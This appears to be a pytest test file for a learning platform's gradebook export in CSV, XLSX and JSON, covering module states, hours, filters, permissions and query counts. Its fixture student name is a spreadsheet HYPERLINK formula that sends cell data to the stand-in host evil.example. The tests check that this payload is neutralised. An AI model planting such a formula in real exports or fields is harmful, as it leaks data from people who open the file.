"""The gradebook export over HTTP: CSV (UTF-8 with BOM, streamed), XLSX and JSON; module
cells and hours; formula injection; status filter; permissions; a constant query count."""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import quote

import openpyxl
import pytest
from sqlalchemy import select

from lms.accounts.models import User
from lms.catalog.models import RubricCriterion
from lms.completion import gradebook
from lms.enrollments.models import Enrollment
from lms.extensions import db
from lms.practicals.models import Grade, Submission
from tests.builders import (
    add_completion,
    add_course,
    add_enrolment,
    add_grade,
    add_instructor,
    add_practical,
    add_quiz_attempt,
    add_submission,
    add_theory,
)
from tests.http import assert_problem, client_for

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def book(app, users):
    """A course with two theory modules (one with a quiz) and a practical, and teachers in
    every interesting state."""
    course = add_course(code="GZ-BOOK-2020")
    intro = add_theory(course, title="工业互联网体系架构", hours="4", position=0)
    quiz = add_theory(course, title="5G与边缘计算", hours="2", quiz=True, position=1)
    lab = add_practical(course, title="设备接入实训", hours="8", position=2, reopen="until_pass")
    instructor = users.create(role="instructor")
    add_instructor(course, instructor)

    li = users.create(
        full_name="李明", email="liming@example.edu.cn", institution="广东轻工职业技术学院"
    )
    e = add_enrolment(course, li)
    add_completion(e, intro)
    add_quiz_attempt(e, quiz, 40)
    add_quiz_attempt(e, quiz, 80, attempt_no=2)
    add_completion(e, quiz, how="quiz")
    add_grade(add_submission(e, lab), total="85.5")

    evil = users.create(full_name=EVIL_NAME, email="evil@example.edu.cn", institution="+86 学院")
    e = add_enrolment(course, evil)
    add_quiz_attempt(e, quiz, 45)
    add_grade(add_submission(e, lab), total=30, status="returned")

    wang = users.create(full_name="王芳", email="wangfang@example.edu.cn")
    e = add_enrolment(course, wang)
    add_grade(add_submission(e, lab), total=40)  # failed; until_pass reopened it
    add_submission(e, lab, attempt_no=2)

    zhao = users.create(full_name="赵六", email="zhaoliu@example.edu.cn")
    add_enrolment(course, zhao, status="withdrawn")
    add_enrolment(course, users.create(full_name="候补者"), status="waitlisted")

    sun = users.create(full_name="孙七", email="sunqi@example.edu.cn")
    e = add_enrolment(course, sun, status="completed")
    add_completion(e, intro)
    add_grade(add_submission(e, lab), total=40)
    add_grade(add_submission(e, lab, attempt_no=2), total=70)

    return {
        "course": course,
        "modules": (intro, quiz, lab),
        "instructor": client_for(app, instructor),
        "teacher": client_for(app, li),
    }


def _get(client, course_id, query=""):
    # buffered: the streamed body is read inside the request's own contexts (ApiClient
    # hides the test's app context only while the request runs).
    response = client.get(f"/api/v1/courses/{course_id}/gradebook{query}", buffered=True)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


HEADER_ZH = [
    "姓名 Name",
    "邮箱 Email",
    "单位 Institution",
    "状态 Status",
    "工业互联网体系架构（理论）",
    "5G与边缘计算（理论）",
    "设备接入实训（实训）",
    "理论学时 Theory hours",
    "实训学时 Practical hours",
    "总学时 Total hours",
]
ROWS_ZH = [
    [
        "李明",
        "liming@example.edu.cn",
        "广东轻工职业技术学院",
        "在读",
        "已完成",
        "已完成 (80%)",
        "85.5 通过",
        "6",
        "8",
        "14",
    ],
    [
        "'" + EVIL_NAME,
        "evil@example.edu.cn",
        "'+86 学院",
        "在读",
        "—",
        "45%",
        "退回修改 (30)",
        "0",
        "0",
        "0",
    ],
    ["王芳", "wangfang@example.edu.cn", "", "在读", "—", "—", "已提交", "0", "0", "0"],
    ["孙七", "sunqi@example.edu.cn", "", "已结业", "已完成", "—", "70 通过", "4", "8", "12"],
]
# The practical's rubric criteria: one column of points each, after the practical's column
CRITERIA_ZH = [
    "设备接入实训：设备接入（分）",
    "设备接入实训：数据上报（分）",
    "设备接入实训：实训报告（分）",
]
HEADER_ZH[7:7] = CRITERIA_ZH
for _row in ROWS_ZH:
    _row[7:7] = ["", "", ""]  # graded without per-criterion scores


def test_csv_has_a_bom_chinese_headers_and_one_row_per_enrolment(book):
    response = _get(book["instructor"], book["course"].id, "?format=csv")
    assert response.get_data().startswith(BOM)
    assert response.mimetype == "text/csv"
    assert response.mimetype_params["charset"] == "utf-8"
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=GZ-BOOK-2020-gradebook.csv"
    )
    assert "Content-Length" not in response.headers  # streamed
    assert response.headers["Cache-Control"] == "private, no-store"
    rows = _csv_rows(response)
    assert rows[0] == HEADER_ZH
    assert rows[1:] == ROWS_ZH


def test_csv_is_the_default_format(book):
    assert _get(book["instructor"], book["course"].id).get_data().startswith(BOM)


def test_formula_cells_are_neutralised(book):
    rows = _csv_rows(_get(book["instructor"], book["course"].id))
    assert rows[2][0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    assert rows[2][2] == "'+86 学院"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_every_formula_trigger(value):
    assert gradebook.neutralise(value) == "'" + value
    assert gradebook.neutralise("李明") == "李明"
    assert gradebook.neutralise(-1) == -1  # numbers are numbers, not formulas


def test_english_headers_and_labels(book):
    rows = _csv_rows(_get(book["instructor"], book["course"].id, "?lang=en"))
    assert rows[0][:4] == ["Name", "Email", "Institution", "Status"]
    assert rows[0][4:7] == [
        "工业互联网体系架构 (theory)",
        "5G与边缘计算 (theory)",
        "设备接入实训 (practical)",
    ]
    assert rows[1][3:7] == ["active", "completed", "completed (80%)", "85.5 passed"]
    assert rows[2][6] == "returned (30)"


def test_xlsx_opens_with_openpyxl_and_has_the_same_rows(book):
    response = _get(book["instructor"], book["course"].id, "?format=xlsx")
    assert response.mimetype == gradebook.XLSX_MIMETYPE
    assert response.headers["Content-Disposition"].endswith("filename=GZ-BOOK-2020-gradebook.xlsx")
    assert int(response.headers["Content-Length"]) == len(response.get_data())
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    rows = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert rows == [HEADER_ZH, *ROWS_ZH]
    evil = sheet["A3"]
    assert evil.data_type == "s" and evil.value.startswith("'=")  # text, not a formula
    assert sheet["K2"].value == 6  # hours are numbers
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:M{len(ROWS_ZH) + 1}"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["D"].width


def test_practical_criteria_have_their_points_as_number_columns(book):
    _, _, lab = book["modules"]
    criteria = db.session.scalars(
        select(RubricCriterion)
        .where(RubricCriterion.module_id == lab.id)
        .order_by(RubricCriterion.position)
    ).all()
    grade = db.session.scalars(
        select(Grade).join(Submission).join(Enrollment).join(User).where(User.full_name == "李明")
    ).one()
    grade.scores = [
        {"criterion_id": criteria[0].id, "points": 40},
        {"criterion_id": criteria[1].id, "points": 25.5},
        {"criterion_id": criteria[2].id, "points": 20},
    ]
    db.session.commit()

    response = _get(book["instructor"], book["course"].id, "?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    assert [sheet.cell(2, column).value for column in (8, 9, 10)] == [40, 25.5, 20]
    csv_rows = _csv_rows(_get(book["instructor"], book["course"].id, "?format=csv&lang=en"))
    assert csv_rows[0][7] == f"设备接入实训: {criteria[0].title} (points)"
    assert csv_rows[1][7:10] == ["40", "25.5", "20"]


def test_json_is_a_list_of_rows_with_module_states(book):
    response = _get(book["instructor"], book["course"].id, "?format=json")
    assert response.mimetype == "application/json"
    rows = json.loads(response.get_data())
    intro, quiz, lab = book["modules"]
    assert [r["full_name"] for r in rows] == ["李明", EVIL_NAME, "王芳", "孙七"]
    first = rows[0]
    assert {
        k: first[k]
        for k in (
            "email",
            "institution",
            "status",
            "theory_hours",
            "practical_hours",
            "total_hours",
        )
    } == {
        "email": "liming@example.edu.cn",
        "institution": "广东轻工职业技术学院",
        "status": "active",
        "theory_hours": 6,
        "practical_hours": 8,
        "total_hours": 14,
    }
    assert first["modules"] == [
        {
            "module_id": intro.id,
            "kind": "theory",
            "status": "completed",
            "hours_credited": 4,
            "best_percent": None,
        },
        {
            "module_id": quiz.id,
            "kind": "theory",
            "status": "completed",
            "hours_credited": 2,
            "best_percent": 80,
        },
        {
            "module_id": lab.id,
            "kind": "practical",
            "status": "passed",
            "hours_credited": 8,
            "total_points": 85.5,
        },
    ]
    assert [m["status"] for m in rows[1]["modules"]] == ["not_started", "failed", "returned"]
    assert rows[2]["modules"][2] == {
        "module_id": lab.id,
        "kind": "practical",
        "status": "submitted",
        "hours_credited": 0,
        "total_points": None,
    }
    assert isinstance(first["enrollment_id"], int) and isinstance(first["user_id"], int)


def test_status_filter_includes_withdrawn_on_request(book):
    rows = json.loads(
        _get(book["instructor"], book["course"].id, "?format=json&status=withdrawn").get_data()
    )
    assert [(r["full_name"], r["status"]) for r in rows] == [("赵六", "withdrawn")]
    rows = json.loads(
        _get(
            book["instructor"], book["course"].id, "?format=json&status=active&status=withdrawn"
        ).get_data()
    )
    assert [r["full_name"] for r in rows] == ["李明", EVIL_NAME, "王芳", "赵六"]


@pytest.mark.parametrize("query", ["?format=pdf", "?status=gone", "?lang=fr"])
def test_invalid_parameters_are_refused(book, query):
    assert_problem(
        book["instructor"].get(f"/api/v1/courses/{book['course'].id}/gradebook{query}"), 422
    )


def test_chunks_give_the_same_rows_as_one_batch(book, monkeypatch):
    whole = _get(book["instructor"], book["course"].id).get_data()
    monkeypatch.setattr(gradebook, "CHUNK_SIZE", 1)
    assert _get(book["instructor"], book["course"].id).get_data() == whole
    monkeypatch.setattr(gradebook, "CHUNK_SIZE", 3)
    rows = json.loads(_get(book["instructor"], book["course"].id, "?format=json").get_data())
    assert len(rows) == 4


def test_an_empty_course_gives_the_header_or_an_empty_list(admin_client):
    course = add_course(code="广州-2020")
    add_theory(course)
    csv_response = _get(admin_client, course.id)
    assert _csv_rows(csv_response) == [
        HEADER_ZH[:4] + ["工业互联网体系架构（理论）"] + HEADER_ZH[-3:]
    ]
    assert csv_response.headers["Content-Disposition"] == (
        "attachment; filename=-2020-gradebook.csv; "
        f"filename*=UTF-8''{quote('广州-2020-gradebook.csv')}"
    )
    assert json.loads(_get(admin_client, course.id, "?format=json").get_data()) == []
    workbook = openpyxl.load_workbook(
        io.BytesIO(_get(admin_client, course.id, "?format=xlsx").get_data())
    )
    assert workbook.active.max_row == 1


def test_the_export_issues_a_constant_number_of_queries(users, admin_client, count_queries):
    counts = []
    for size in (5, 40):
        course = add_course()
        theory, lab = add_theory(course, quiz=True), add_practical(course)
        for i in range(size):
            e = add_enrolment(course, users.create())
            add_quiz_attempt(e, theory, 50 + i % 50)
            if i % 2:
                add_completion(e, theory, how="quiz")
            add_grade(add_submission(e, lab), total=50 + i % 50)
        for fmt in ("csv", "xlsx", "json"):
            with count_queries() as statements:
                body = _get(admin_client, course.id, f"?format={fmt}").get_data()
            assert body
            counts.append((fmt, len(statements)))
    assert counts[:3] == counts[3:], counts


def test_who_may_export(app, users, book, anon, admin_client):
    url = f"/api/v1/courses/{book['course'].id}/gradebook"
    outsider = client_for(app, users.create(role="instructor"))
    assert_problem(outsider.get(url), 404)
    assert_problem(outsider.get(url + "?format=pdf"), 404)  # permission before validation
    assert_problem(book["teacher"].get(url), 403)
    assert_problem(anon.get(url), 401)
    assert_problem(admin_client.get("/api/v1/courses/999999/gradebook"), 404)
    assert _get(admin_client, book["course"].id).status_code == 200
